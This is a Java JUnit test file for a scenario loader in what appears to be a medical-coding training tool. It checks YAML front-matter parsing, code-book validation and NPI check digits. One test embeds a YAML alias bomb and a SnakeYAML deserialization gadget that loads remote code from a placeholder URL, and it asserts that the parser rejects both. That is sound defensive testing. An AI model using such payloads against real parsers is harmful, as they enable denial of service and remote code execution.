package org.chart2claim.scenario;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.LocalDate;
import java.util.LinkedHashMap;
import java.util.Map;
import org.chart2claim.codebook.InMemoryCodeLookup;
import org.chart2claim.standard.Npi;
import org.junit.jupiter.api.Test;

class ScenarioLoaderTest {

    static final String VALID = """
            ---
            id: t-001-sample
            title: Sample
            specialty: Primary care
            difficulty: 2
            tags: [E/M]
            codeSetYear: FY2026
            setting: Office
            placeOfService: "11"
            dateOfService: 2026-03-14
            patient: {name: Pat Test, dateOfBirth: 1961-05-02, sex: F, address: {line1: 1 Main St, city: Springfield, state: IL, zip: "62701"}, memberId: X1}
            payer: {id: medicare-sim, plan: Medicare}
            renderingProvider: {name: "Dr A", npi: "1502020203"}
            billingProvider: {name: Clinic, npi: "1401010107", taxId: "47-1234501"}
            key:
              diagnoses:
                - {code: e11.40, rationale: "combination code"}
              procedures:
                - {code: 99214, modifiers: [25], units: 1, pointers: [1], rationale: "MDM moderate"}
              commonMistakes:
                - {answer: E11.9, why: "complication documented"}
            ---
            **S:** note text
            """;

    @Test
    void parsesEveryFieldAndNormalisesCodes() throws Exception {
        Scenario s = ScenarioParser.parse("t-001-sample.md", VALID);
        assertThat(s.id()).isEqualTo("t-001-sample");
        assertThat(s.dateOfService()).isEqualTo(LocalDate.of(2026, 3, 14));
        assertThat(s.patient().sex()).isEqualTo("F");
        assertThat(s.patient().address().zip()).isEqualTo("62701");
        assertThat(s.key().diagnoses().get(0).code()).isEqualTo("E11.40");
        assertThat(s.key().procedures().get(0).code()).isEqualTo("99214"); // unquoted number still a code
        assertThat(s.key().procedures().get(0).modifiers()).containsExactly("25");
        assertThat(s.noteMarkdown()).startsWith("**S:**");
        assertThat(s.contentHash()).hasSize(64);
    }

    @Test
    void reportsAllProblemsOfAFileAtOnce() {
        String broken = VALID.replace("difficulty: 2", "difficulty: 5")
                .replace("\"1502020203\"", "\"1502020204\"")
                .replace("pointers: [1]", "pointers: [3]")
                .replace("title: Sample\n", "");
        assertThatThrownBy(() -> ScenarioParser.parse("t-001-sample.md", broken))
                .isInstanceOfSatisfying(
                        ScenarioFormatException.class,
                        e -> assertThat(e.reasons())
                                .anySatisfy(r -> assertThat(r).contains("difficulty"))
                                .anySatisfy(r -> assertThat(r).contains("renderingProvider.npi"))
                                .anySatisfy(r -> assertThat(r).contains("pointers: 3"))
                                .anySatisfy(r -> assertThat(r).contains("missing required field title")));
    }

    @Test
    void rejectsFilesWithoutFrontMatterOrWithBrokenYaml() {
        assertThatThrownBy(() -> ScenarioParser.parse("x.md", "just a note"))
                .hasMessageContaining("no YAML front matter");
        assertThatThrownBy(() -> ScenarioParser.parse("x.md", "---\nid: [unclosed\n---\nnote"))
                .hasMessageContaining("not valid YAML");
        assertThatThrownBy(() -> ScenarioParser.parse("x.md", "---\n- a list\n---\nnote"))
                .hasMessageContaining("mapping");
        assertThatThrownBy(() -> ScenarioParser.parse("x.md", "")).hasMessageContaining("empty");
    }

    @Test
    void refusesYamlAliasBombsAndJavaTypeTags() {
        String bomb =
                "---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                        + "d: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n---\nnote";
        assertThatThrownBy(() -> ScenarioParser.parse("x.md", bomb)).isInstanceOf(ScenarioFormatException.class);
        String tag =
                "---\nid: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n---\nnote";
        assertThatThrownBy(() -> ScenarioParser.parse("x.md", tag)).hasMessageContaining("not valid YAML");
    }

    @Test
    void oneBadFileDoesNotStopTheOthersAndIsNamed() {
        Map<String, String> files = new LinkedHashMap<>();
        files.put("t-001-sample.md", VALID);
        files.put("broken.md", "no front matter here");
        files.put("t-002-other.md", VALID.replace("t-001-sample", "t-002-other"));
        files.put("wrong-name.md", VALID.replace("t-001-sample", "t-003-third"));
        ScenarioLoader.Result result = new ScenarioLoader(null).load(files);
        assertThat(result.scenarios()).extracting(Scenario::id).containsExactly("t-001-sample", "t-002-other");
        assertThat(result.problems())
                .extracting(ScenarioLoader.Problem::fileName)
                .containsExactly("broken.md", "wrong-name.md");
        assertThat(result.problems().get(1).reasons().get(0)).contains("t-003-third.md");
    }

    @Test
    void keyCodesMustExistAndBeBillable() {
        InMemoryCodeLookup lookup = new InMemoryCodeLookup()
                .header("E11.4", "Type 2 diabetes with neurological complications")
                .icd("E11.9", "Type 2 diabetes mellitus without complications")
                .cpt("99214");
        String header = VALID.replace("e11.40", "E11.4");
        ScenarioLoader.Result result = new ScenarioLoader(lookup).load(Map.of("t-001-sample.md", header));
        assertThat(result.problems())
                .singleElement()
                .satisfies(
                        p -> assertThat(p.reasons()).singleElement().asString().contains("header"));

        ScenarioLoader.Result unknown = new ScenarioLoader(new InMemoryCodeLookup().icd("E11.40", "T2DM w neuropathy"))
                .load(Map.of("t-001-sample.md", VALID));
        assertThat(unknown.problems())
                .singleElement()
                .satisfies(p -> assertThat(p.reasons().get(0)).contains("99214 is not in the CPT code book"));

        ScenarioLoader.Result ok = new ScenarioLoader(new InMemoryCodeLookup()
                        .icd("E11.40", "T2DM w neuropathy")
                        .icd("E11.9", "T2DM without complications")
                        .cpt("99214"))
                .load(Map.of("t-001-sample.md", VALID));
        assertThat(ok.problems()).isEmpty();
    }

    @Test
    void npiCheckDigit() {
        assertThat(Npi.isValid("1234567893")).isTrue(); // the CMS example
        assertThat(Npi.isValid("1234567890")).isFalse();
        assertThat(Npi.isValid("12345")).isFalse();
        assertThat(Npi.isValid(null)).isFalse();
    }
}
